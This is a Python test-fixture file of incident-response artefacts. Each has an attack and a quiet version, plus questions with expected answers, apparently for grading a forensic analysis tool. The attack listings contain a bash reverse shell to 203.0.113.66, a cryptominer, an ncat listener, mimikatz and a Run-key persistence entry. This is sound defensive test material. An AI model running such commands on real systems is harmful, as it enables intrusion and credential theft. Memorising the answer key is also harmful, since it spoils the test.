"""Listings of a responder's commands and registry exports: an attack, a quiet day and six questions of each."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Sample:
    """One artefact. Questions are asked of the attack or of the quiet day, each with what the answer must say."""

    attack: tuple[str, bytes]
    quiet: tuple[str, bytes]
    rows: tuple[int, int]
    techniques: tuple[str, ...]
    questions: tuple[tuple[str, tuple[str, ...]], ...]
    quiet_questions: tuple[tuple[str, tuple[str, ...]], ...]


PS = b"""$ ps aux
USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root           1  0.0  0.1 168000 11000 ?        Ss   Nov01   0:10 /sbin/init
root           2  0.0  0.0      0     0 ?        S    Nov01   0:00 [kthreadd]
root         812  0.0  0.1  15000  5000 ?        Ss   Nov01   0:00 sshd: /usr/sbin/sshd -D [listener]
postgres     900  0.0  0.5 215000 29000 ?        Ss   Nov01   1:02 /usr/lib/postgresql/bin/postgres -D /data
www-data     990  0.0  0.3  90000 50000 ?        S    Nov01   9:00 nginx: worker process
"""
PS_ATTACK = PS + (
    b"www-data    6667 99.0  0.3  90000 50000 ?        R    03:12  90:00 /tmp/.x/kdevtmp -o pool -u wallet\n"
    b"www-data    6670  0.0  0.0   4000   900 ?        S    03:11   0:00 bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n"
)
NETSTAT = b"""Active Internet connections (servers and established)
Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name
tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      812/sshd: /usr/sbin
tcp6       0      0 :::443                  :::*                    LISTEN      990/nginx: master
tcp        0    216 10.0.0.5:22             198.51.100.9:51234      ESTABLISHED 1200/sshd: mara
udp        0      0 127.0.0.53:53           0.0.0.0:*                           700/systemd-resolve
"""
NETSTAT_ATTACK = NETSTAT + (
    b"tcp        0      0 0.0.0.0:8081            0.0.0.0:*               LISTEN      6666/ncat\n"
    b"tcp        0    216 10.0.0.5:51234          203.0.113.66:443        ESTABLISHED 6667/bash\n"
)
NETSTAT_WINDOWS = b"""\r
Active Connections\r
\r
  Proto  Local Address          Foreign Address        State           PID\r
  TCP    0.0.0.0:135            0.0.0.0:0              LISTENING       1044\r
 [svchost.exe]\r
  TCP    10.0.0.7:50123         198.51.100.20:443      ESTABLISHED     5120\r
 [msedge.exe]\r
  UDP    0.0.0.0:5353           *:*                                    5120\r
 [msedge.exe]\r
"""
NETSTAT_WINDOWS_ATTACK = NETSTAT_WINDOWS + (
    b"  TCP    10.0.0.7:50200         203.0.113.66:8443      ESTABLISHED     7777\r\n [powershell.exe]\r\n"
)
TASKS = b"""\r
Image Name                     PID Session Name        Session#    Mem Usage\r
========================= ======== ================ =========== ============\r
System Idle Process              0 Services                   0          8 K\r
svchost.exe                    812 Services                   0     10,000 K\r
explorer.exe                  4100 Console                    1    120,000 K\r
"""
TASKS_ATTACK = TASKS + b"mimikatz.exe                  6666 Console                    1     12,000 K\r\n"
LAST = b"""mara     pts/0        192.0.2.7        Thu Nov 20 08:00   still logged in
mara     pts/1        192.0.2.7        Wed Nov 19 09:00 - 17:02  (08:02)
reboot   system boot  6.1.0-13-amd64   Wed Nov 19 08:00   still running

wtmp begins Sat Nov  1 00:00:01 2026
"""
LASTB = (
    b"".join(
        b"admin    ssh:notty    203.0.113.66     Thu Nov 20 03:%02d - 03:%02d  (00:00)\n" % (n, n) for n in range(40)
    )
    + b"\nbtmp begins Thu Nov 20 03:00:00 2026\n"
)
REGISTRY = (
    "Windows Registry Editor Version 5.00\r\n\r\n"
    "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
    '"SecurityHealth"=hex(2):25,00,77,00,69,00,6e,00,64,00,69,00,72,00,25,00,5c,00,73,\\\r\n'
    "  00,2e,00,65,00,78,00,65,00,00,00\r\n\r\n"
    "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Vendor]\r\n"
    '"Level"=dword:00000002\r\n@="say \\"hi\\""\r\n'
)
REGISTRY_ATTACK = REGISTRY + (
    "\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
    '"Updater"="C:\\\\Users\\\\Public\\\\update.exe -s"\r\n'
    "\r\n[-HKEY_LOCAL_MACHINE\\SOFTWARE\\Vendor\\Audit]\r\n"
)


def live_samples() -> dict[str, Sample]:
    """The samples by their name."""
    return {
        "processes": Sample(
            ("ps.txt", PS_ATTACK),
            ("ps.txt", PS),
            (7, 5),
            ("T1059.004",),
            (
                ("Is anything suspicious here?", ("Process that runs from a temporary or hidden folder", "line 8")),
                ("Which processes run as www-data?", ("3 running processes", "nginx: worker process")),
                ("Is a miner running?", ("kdevtmp",)),
            ),
            (
                ("Is anything suspicious here?", ("5 running processes", "what a rootkit hides is not in it")),
                ("Is postgres running?", ("/usr/lib/postgresql/bin/postgres",)),
                ("Which logins failed?", ("does not record failed logins",)),
            ),
        ),
        "connections": Sample(
            ("netstat.txt", NETSTAT_ATTACK),
            ("netstat.txt", NETSTAT),
            (6, 4),
            ("T1071",),
            (
                ("Is anything suspicious here?", ("Shell or script host with a connection to the outside",)),
                ("Which ports are open?", ("0[.]0[.]0[.]0:8081 listening", "ncat")),
                ("Who is connected to 203.0.113.66?", ("bash",)),
            ),
            (
                ("Is anything suspicious here?", ("4 connections and open ports",)),
                ("Which connections are there?", ("198[.]51[.]100[.]9",)),
                ("Which programs ran?", ("does not record executions",)),
            ),
        ),
        "connections of Windows": Sample(
            ("netstat-anob.txt", NETSTAT_WINDOWS_ATTACK),
            ("netstat-anob.txt", NETSTAT_WINDOWS),
            (4, 3),
            ("T1071",),
            (
                ("Is anything suspicious here?", ("Shell or script host with a connection to the outside",)),
                ("Which connections go to 203.0.113.66?", ("powershell.exe",)),
                ("Which ports are listening?", ("0[.]0[.]0[.]0:135 listening",)),
            ),
            (
                ("Is anything suspicious here?", ("3 connections and open ports",)),
                ("Which connections go to 203.0.113.66?", ("None of the 3 records has `203[.]0[.]113[.]66`",)),
                ("Which connections are there?", ("msedge.exe",)),
            ),
        ),
        "tasks": Sample(
            ("tasklist.txt", TASKS_ATTACK.decode().encode("utf-16")),
            ("tasklist.txt", TASKS),
            (4, 3),
            ("T1003",),
            (
                ("Is anything suspicious here?", ("Credential theft tool or dump",)),
                ("Is mimikatz running?", ("1 running process with `mimikatz`", "process 6666")),
                ("Which processes were running?", ("4 running processes",)),
            ),
            (
                ("Is anything suspicious here?", ("3 running processes",)),
                ("Is mimikatz.exe running?", ("No: none of the 3 records has `mimikatz.exe`",)),
                ("Which processes are running?", ("explorer.exe",)),
            ),
        ),
        "logins of last": Sample(
            ("lastb.txt", LASTB),
            ("last.txt", LAST),
            (40, 3),
            ("T1110",),
            (
                ("Is anything suspicious here?", ("40 failed logins from 203[.]0[.]113[.]66",)),
                ("Which logins failed?", ("admin",)),
                ("Who logged in?", ("does not record logins",)),
            ),
            (
                ("Who logged in?", ("mara", "192[.]0[.]2[.]7")),
                ("When was the reboot?", ("Wed Nov 19 08:00",)),
                ("Is anything suspicious here?", ("2 logins",)),
            ),
        ),
        "registry export": Sample(
            ("run.reg", REGISTRY_ATTACK.encode("utf-16")),
            ("run.reg", REGISTRY.encode("utf-16")),
            (5, 3),
            ("T1547.001",),
            (
                ("Is anything suspicious here?", ("Autostart from a temporary, public or download folder",)),
                ("What starts automatically?", ("update.exe",)),
                ("Which settings are there?", ("Level = dword:00000002", "the file deletes this key")),
            ),
            (
                ("Is anything suspicious here?", ("1 autostart entry",)),
                ("What starts automatically?", ("%windir%",)),
                ("When was it changed?", ("states no times",)),
            ),
        ),
    }
